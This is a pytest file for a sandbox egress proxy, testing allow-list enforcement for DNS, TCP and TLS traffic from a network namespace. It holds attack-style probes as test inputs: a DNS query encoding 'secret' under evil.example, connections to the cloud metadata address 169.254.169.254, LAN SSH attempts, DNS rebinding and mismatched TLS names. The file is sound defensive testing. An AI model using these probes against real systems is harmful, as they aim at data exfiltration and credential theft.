"""What code in a namespace of its own reaches, which knows nothing of proxies."""

import asyncio
import shutil
import socket
import ssl
from collections.abc import AsyncIterator
from contextlib import ExitStack, asynccontextmanager, suppress
from dataclasses import replace
from pathlib import Path

import pytest

from sandbox.box import Box, BoxFolder
from sandbox.egress_proxy import EgressBounds
from sandbox.equipment import Equipment
from sandbox.launch import own_network_command
from sandbox.leases import leased_folder
from sandbox.network_namespace import spec_inside
from sandbox.outcome import KeptOutput
from sandbox.processes import process_family
from sandbox.spec import compile_run
from sandbox.transparent_egress import TransparentEgress
from tests.sandbox.conftest import PATIENCE, Place, eventually, limits_of
from tests.sandbox.dns_client import addresses, question, verdict
from tests.sandbox.egress_client import on_both_loops, rules_of
from tests.sandbox.egress_world import OTHER_PUBLIC, PUBLIC, PUBLIC_IPV6, Authority, World, echo, served, web
from tests.sandbox.gvisor_versions import GVISOR_OF_SUITE, debians_runsc
from tests.sandbox.namespaces import boxed_in, inside, needs_namespaces

pytestmark = needs_namespaces
GET = b"GET / HTTP/1.0\r\n\r\n"


@asynccontextmanager
async def web_world() -> AsyncIterator[World]:
    """`web.example:80` with a page."""
    made = World()
    async with served(web({"/": ("200 OK", b"hello")})) as door:
        made.place("web.example", door)
        yield made


@on_both_loops
async def test_permitted_name_is_reached() -> None:
    async with web_world() as world, boxed_in(world, "web.example:80") as insider:
        reply = await insider.datagram("8.8.8.8", 53, question("web.example"))

        assert addresses(reply) == [PUBLIC]
        assert (await insider.talk(PUBLIC, 80, GET)).endswith(b"hello")
        assert insider.words == ["web.example:80 reached"]


@on_both_loops
@pytest.mark.parametrize("resolver", ["127.0.0.1", "::1", "192.0.0.8", "10.255.255.53", "2606:2800::53"])
async def test_resolver_answers_wherever_it_is_asked(resolver: str) -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        asked = question("web.example")
        over_tcp = len(asked).to_bytes(2, "big") + asked

        assert addresses(await insider.datagram(resolver, 53, asked)) == [PUBLIC]
        assert addresses((await insider.talk(resolver, 53, over_tcp, end=True))[2:]) == [PUBLIC]


@on_both_loops
async def test_resolver_ignores_noise_and_still_answers() -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        for noise in (b"", b"x", question("web.example", flags=0x8180)):
            with pytest.raises(TimeoutError):
                await insider.datagram("8.8.8.8", 53, noise, within=0.05)

        assert await insider.talk("8.8.8.8", 53, b"\0\0", end=True) == b"\0\0"
        assert addresses(await insider.datagram("8.8.8.8", 53, question("web.example"))) == [PUBLIC]


async def test_name_that_is_not_permitted_is_asked_of_nobody() -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        reply = await insider.datagram("127.0.0.1", 53, question("c2VjcmV0.evil.example"))

        assert verdict(reply) == 3
        assert world.asked == []
        assert insider.words == ["c2VjcmV0.evil.example refused: not in the allow-list, test"]


async def test_programs_resolve_and_connect_unchanged() -> None:
    async with web_world() as world:
        code = "import urllib.request\nprint(urllib.request.urlopen('http://web.example/').read())"
        async with boxed_in(world, "web.example") as insider:
            assert await insider.output(code) == "b'hello'\n"


@on_both_loops
@pytest.mark.parametrize(
    ("address", "port", "told"),
    [
        (OTHER_PUBLIC, 80, f"{OTHER_PUBLIC}:80"),
        (PUBLIC, 80, f"{PUBLIC}:80"),
        (PUBLIC_IPV6, 443, f"[{PUBLIC_IPV6}]:443"),
        ("169.254.169.254", 80, "169.254.169.254:80"),
        ("::ffff:169.254.169.254", 80, "169.254.169.254:80"),
        ("10.0.0.1", 22, "10.0.0.1:22"),
    ],
)
async def test_address_that_is_not_permitted_is_reset(address: str, port: int, told: str) -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        with pytest.raises(ConnectionResetError):
            await insider.talk(address, port)

        assert world.reached == []
        assert insider.words == [f"{told} refused: not in the allow-list, test"]


@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.0.1", "fd00:ec2::254", "64:ff9b::a9fe:a9fe"])
async def test_metadata_and_lan_stay_closed_whatever_the_list_says(address: str) -> None:
    async with web_world() as world, boxed_in(world, address) as insider:
        with pytest.raises(ConnectionResetError):
            await insider.talk(address, 80)

        assert world.reached == []
        assert "private destinations are closed" in insider.words[0]


async def test_lan_is_reached_where_private_destinations_are_allowed() -> None:
    async with web_world() as world:
        world.doors["10.0.0.1", 80] = world.doors[PUBLIC, 80]
        async with boxed_in(world, "10.0.0.0/8", private=True) as insider:
            assert (await insider.talk("10.0.0.1", 80, GET)).endswith(b"hello")


async def test_address_in_the_list_is_reached_without_a_name() -> None:
    async with web_world() as world, boxed_in(world, f"{PUBLIC}:80") as insider:
        assert (await insider.talk(PUBLIC, 80, GET)).endswith(b"hello")
        assert insider.words == [f"{PUBLIC}:80 reached"]


async def test_name_at_another_port_is_told_by_its_name() -> None:
    async with web_world() as world, boxed_in(world, "web.example:80") as insider:
        await insider.datagram("127.0.0.1", 53, question("web.example"))
        with pytest.raises(ConnectionResetError):
            await insider.talk(PUBLIC, 22)

        assert insider.words == ["web.example:22 refused: not in the allow-list, test"]


async def test_address_of_several_names_is_reached_by_the_one_that_the_port_is_open_to() -> None:
    async with web_world() as world:
        world.names["other.example"] = world.names["web.example"]
        async with boxed_in(world, "web.example:80", "other.example:443") as insider:
            await insider.datagram("127.0.0.1", 53, question("web.example"))
            await insider.datagram("127.0.0.1", 53, question("other.example"))

            assert (await insider.talk(PUBLIC, 80, GET)).endswith(b"hello")
            assert insider.words == ["web.example:80 reached"]


async def test_address_that_does_not_answer_is_followed_by_the_next_of_its_name() -> None:
    async with web_world() as world:
        world.names["web.example"] = [(PUBLIC_IPV6, PUBLIC)]
        async with boxed_in(world, "web.example") as insider:
            await insider.datagram("127.0.0.1", 53, question("web.example", 28))

            assert (await insider.talk(PUBLIC_IPV6, 80, GET)).endswith(b"hello")
            assert world.reached == [(PUBLIC_IPV6, 80), (PUBLIC, 80)]


async def test_rebinding_after_the_answer_changes_nothing() -> None:
    async with web_world() as world:
        world.names["web.example"] = [(PUBLIC,), ("127.0.0.1",)]
        async with boxed_in(world, "web.example") as insider:
            await insider.datagram("127.0.0.1", 53, question("web.example"))

            assert (await insider.talk(PUBLIC, 80, GET)).endswith(b"hello")
            assert world.reached == [(PUBLIC, 80)]


@on_both_loops
async def test_nothing_is_reached_before_the_box_has_code() -> None:
    async with web_world() as world, boxed_in(world, opened=False) as insider:
        with pytest.raises(ConnectionResetError):
            await insider.talk(PUBLIC, 80, GET)

        assert verdict(await insider.datagram("127.0.0.1", 53, question("web.example"))) == 5
        assert (world.asked, world.reached) == ([], [])


@on_both_loops
async def test_our_own_port_leads_nowhere() -> None:
    async with web_world() as world, boxed_in(world, "public", private=True) as insider:
        for listening in insider.egress.namespace.connections:
            address, port, *_ = listening.getsockname()
            with suppress(ConnectionResetError):
                assert await insider.talk(address, port, GET) == b""

        assert world.reached == []


@on_both_loops
async def test_tls_for_another_name_behind_the_same_address_is_cut(tmp_path: Path) -> None:
    world, authority = World(), Authority.made(tmp_path, "web.example", "hidden.example")
    async with served(echo, tls=authority.for_server) as door, boxed_in(world, "web.example") as insider:
        world.place("web.example", door, port=443)
        await insider.datagram("127.0.0.1", 53, question("web.example"))
        hello = _hello_of("hidden.example", authority)

        assert await insider.talk(PUBLIC, 443, hello) == b""
        assert insider.words[-1] == "hidden.example:443 refused: TLS asks for it: not in the allow-list, test"
        assert (await insider.talk(PUBLIC, 443, _hello_of("web.example", authority), end=True)).startswith(b"\x16\x03")


@on_both_loops
async def test_200_connections_at_once_are_all_served() -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        await insider.datagram("127.0.0.1", 53, question("web.example"))

        def talk() -> int:
            with ExitStack() as opened:
                clients = [opened.enter_context(socket.create_connection((PUBLIC, 80), timeout=20)) for _ in range(200)]
                for client in clients:
                    client.sendall(GET)
                return sum(client.makefile("rb").read().endswith(b"hello") for client in clients)

        assert await inside(insider.egress.namespace, talk) == 200


@on_both_loops
async def test_half_closed_connection_still_listens() -> None:
    async with web_world() as world, served(echo) as door, boxed_in(world, PUBLIC) as insider:
        world.doors[PUBLIC, 7] = door

        assert await insider.talk(PUBLIC, 7, b"x" * 300_000, end=True) == b"x" * 300_000


async def test_bytes_beyond_the_bound_end_the_connection() -> None:
    world, bounds = World(), EgressBounds(total_bytes=1 << 20)
    async with served(echo) as door, boxed_in(world, PUBLIC, bounds=bounds) as insider:
        world.doors[PUBLIC, 7] = door
        try:
            answer = await insider.talk(PUBLIC, 7, bytes(4 << 20), end=True)
        except ConnectionError:
            answer = b""

        assert len(answer) <= 1 << 20
        assert insider.words[-1].startswith("everything refused")


@on_both_loops
async def test_closing_ends_what_is_open() -> None:
    async with web_world() as world, served(echo) as door, boxed_in(world, PUBLIC) as insider:
        world.doors[PUBLIC, 7] = door
        talking = asyncio.create_task(insider.talk(PUBLIC, 7, b"hello"))
        await eventually(lambda: insider.words == [f"{PUBLIC}:7 reached"])

        await insider.egress.close()

        assert b"hello".startswith(await talking)


def test_abandoned_egress_leaves_nothing_listening_even_after_its_loop(world_of_nothing: World) -> None:
    loop = asyncio.new_event_loop()
    egress = loop.run_until_complete(TransparentEgress.listening(world_of_nothing))
    loop.close()

    egress.abandon()

    assert egress.namespace.descriptor == -1


@pytest.fixture
def world_of_nothing() -> World:
    return World()


INSIDE = """
import socket, urllib.request
print(urllib.request.urlopen("http://web.example/", timeout=10).read())
for name in ("evil.example", "lan.example"):
    try:
        socket.getaddrinfo(name, 80)
    except OSError as error:
        print(error)
for address in (("169.254.169.254", 80), ("127.0.0.1", 22), ("10.0.0.1", 80)):
    try:
        with socket.create_connection(address, timeout=10) as connection:
            print(connection.recv(10))
    except OSError as error:
        print(type(error).__name__)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 123))
except OSError as error:
    print(type(error).__name__)
"""


@pytest.mark.gvisor
@pytest.mark.parametrize("suite", GVISOR_OF_SUITE)
async def test_real_box_reaches_what_is_permitted_and_nothing_else(place: Place, suite: str) -> None:
    async with web_world() as world:
        world.names["lan.example"] = [("10.0.0.1",)]
        egress = await TransparentEgress.listening(world)
        egress.open(rules_of("web.example"))
        try:
            said = await _said_by_box(replace(place.equipment, runsc=debians_runsc(suite)), egress)
        finally:
            await egress.close()

        assert said.splitlines() == [
            "b'hello'",
            *["[Errno -2] Name or service not known"] * 2,
            *("ConnectionResetError", "ConnectionRefusedError", "ConnectionResetError", "PermissionError"),
        ]
        assert world.reached == [(PUBLIC, 80)]


async def _said_by_box(equipment: Equipment, egress: TransparentEgress) -> str:
    """What code prints in a box of this namespace, started as boxes are but for its network."""
    output = KeptOutput(limit_bytes=1 << 16)
    with leased_folder(equipment.folder / "runs", "0" * 32) as path:
        folder = BoxFolder(path=path, name="0" * 32)
        folder.write(spec_inside(compile_run("python", limits_of(), equipment.tree).spec, egress.namespace))
        flags = (*equipment.runsc.arguments, "--network=host")
        box = await Box.start((*own_network_command(), str(equipment.runsc.path), *flags), folder, ())
        try:
            await box.ready(within_seconds=30 * PATIENCE)
            assert egress.namespace.is_entered_by(process_family(box.process_id))
            await box.serve(INSIDE.encode(), output, within_seconds=30 * PATIENCE, handed_over=lambda: None)
        finally:
            await box.close()
            shutil.rmtree(path)
    return b"".join(chunk.data for chunk in output.chunks).decode()


def _hello_of(name: str, authority: Authority) -> bytes:
    """The first message of a TLS client that asks for a name."""
    said = ssl.MemoryBIO()
    client = authority.for_client.wrap_bio(ssl.MemoryBIO(), said, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return said.read()
